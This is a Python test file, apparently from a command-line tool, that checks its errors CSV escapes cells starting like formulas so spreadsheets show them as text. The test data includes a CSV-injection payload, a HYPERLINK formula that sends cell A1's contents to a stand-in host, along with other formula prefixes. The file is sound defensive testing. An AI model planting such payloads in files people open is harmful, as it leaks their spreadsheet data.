"""The ``--errors`` CSV is safe to open in a spreadsheet.

A row's name is copied into the errors file as typed. A name such as
``=HYPERLINK("http://x.example/?"&A1,"click")`` or ``+1+2`` was written as is, so a
counsellor opening errors.csv in a spreadsheet ran it (CSV injection). Cells that
start like a formula now get a leading ``'`` (shown as text); everything else is
byte for byte what was typed.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from strive.batch.io import ErrorWriter, csv_cell
from strive.batch.partition import RowError
from strive.cli import app


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("ana", "ana"),
        ("Ana =1", "Ana =1"),
        ("'quoted", "'quoted"),
        ("", ""),
        ("[bold]x[/]", "[bold]x[/]"),
        ("\u202eevil", "\u202eevil"),
    ],
)
def test_csv_cell(text: str, shown: str) -> None:
    assert csv_cell(text) == shown


def test_error_writer_neutralises_every_text_cell(tmp_path: Path) -> None:
    target = tmp_path / "errors.csv"
    writer = ErrorWriter(target, "=in.csv")
    writer.write([RowError(2, "@age", "=bad", id='=HYPERLINK("x")')])
    writer.close(commit=True)
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows == [
        ["file", "line", "id", "field", "message"],
        ["'=in.csv", "2", '\'=HYPERLINK("x")', "'@age", "'=bad"],
    ]


def test_batch_errors_file_from_formula_names(tmp_path: Path) -> None:
    people = tmp_path / "people.csv"
    people.write_text(
        "name,age,degree_level\n"
        '"=HYPERLINK(""http://x.example/?""&A1,""click"")",29,phd\n'
        "+1+2,30,phd\n"
        "ana,31,master\n",
        encoding="utf-8",
    )
    errors = tmp_path / "errors.csv"
    result = CliRunner().invoke(
        app,
        [
            "--db",
            str(tmp_path / "s.db"),
            "--today",
            "2026-01-15",
            "batch",
            str(people),
            "--goal",
            "nasa-astronaut",
            "--out",
            str(tmp_path / "out.parquet"),
            "--errors",
            str(errors),
            "--workers",
            "1",
        ],
    )
    assert result.exit_code == 0, result.output
    with errors.open(newline="", encoding="utf-8") as f:
        ids = [row["id"] for row in csv.DictReader(f)]
    assert ids == ['\'=HYPERLINK("http://x.example/?"&A1,"click")', "'+1+2"]
